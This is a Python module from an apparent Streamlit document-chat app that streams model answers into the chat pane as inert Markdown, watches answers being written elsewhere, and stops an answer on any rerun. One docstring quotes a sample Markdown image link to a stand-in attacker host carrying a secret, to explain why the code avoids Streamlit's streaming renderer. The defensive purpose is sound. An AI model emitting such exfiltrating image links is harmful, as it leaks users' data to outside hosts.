"""The answer as it streams into the chat pane, drawn inert; an answer another page or process is
writing, watched until it is settled; and Stop, or any other click, ending the answer before the
next run draws the page."""

from __future__ import annotations

import time

import streamlit as st

from docchat.domain import Message, Status
from docchat.web.safe_markdown import inert
from docchat.ui.session import services

STREAMING = "chat_streaming_turn"
STOP = "chat_stop"
# Why an answer ended early when nobody pressed Stop.
BY_ANOTHER_CLICK = "cut short by another click on the page"
BY_A_CLOSED_PAGE = "cut short: the page was reloaded or closed before the end"
# How often a page looks at an answer another page or process is writing.
WATCH_S = 1.0
SETTLE_WAIT_S = 5.0
# How often the streaming answer is drawn again: each draw makes the whole answer so far inert
# (8-16 ms for 4,000 characters with links; none for one without), and a person reads no faster.
REDRAW_S = 0.1


def written(deltas, shown, *, before: str = "") -> str:
    """Draws the answer as it arrives, inert, at most every REDRAW_S; returns it whole.

    Not st.write_stream: it draws with Streamlit's "unterminated" Markdown, which closes what
    is left open, so `![x](https://evil.example/?q=SECRET` would be fetched before its `)`."""
    text, drawn_at = before, 0.0
    if before:
        shown.markdown(inert(before))  # the cut answer stays in view while the model starts again
    for delta in deltas:
        text += delta
        if time.monotonic() - drawn_at >= REDRAW_S:
            shown.markdown(inert(text))
            drawn_at = time.monotonic()
    shown.markdown(inert(text))
    return text


def clearing(turn, stage):
    """The turn's deltas; the first one replaces the "waiting" line."""
    waiting = True
    for delta in turn:
        if waiting:
            stage.empty()
            waiting = False
        yield delta


@st.fragment(run_every=WATCH_S)
def being_written(message: Message) -> None:
    """An answer another page (this one before a reload) or process is writing: what it has
    written so far, until it is settled and the whole page shows it as stored."""
    now = services().messages.message(message.conversation_id, message.id)
    if now.status is not Status.STREAMING:
        st.rerun()
    if now.content:
        st.markdown(inert(now.content))
    st.caption("Still being written…")


def stop_previous_answer() -> None:
    """Any rerun during an answer (the Stop button, another click) stops it first.

    The interrupted run may still be unwinding on another thread; waiting for the answer to
    be settled means this run shows it as stored (interrupted), not half-written.
    """
    turn = st.session_state.pop(STREAMING, None)
    if turn is None:
        return
    turn.stop.set()
    deadline = time.monotonic() + SETTLE_WAIT_S
    while turn.answer is None and time.monotonic() < deadline:
        time.sleep(0.05)
    # Only this run can tell whether the click that ended the answer was on Stop.
    turn.interrupted_by(None if st.session_state.get(STOP) else BY_ANOTHER_CLICK)
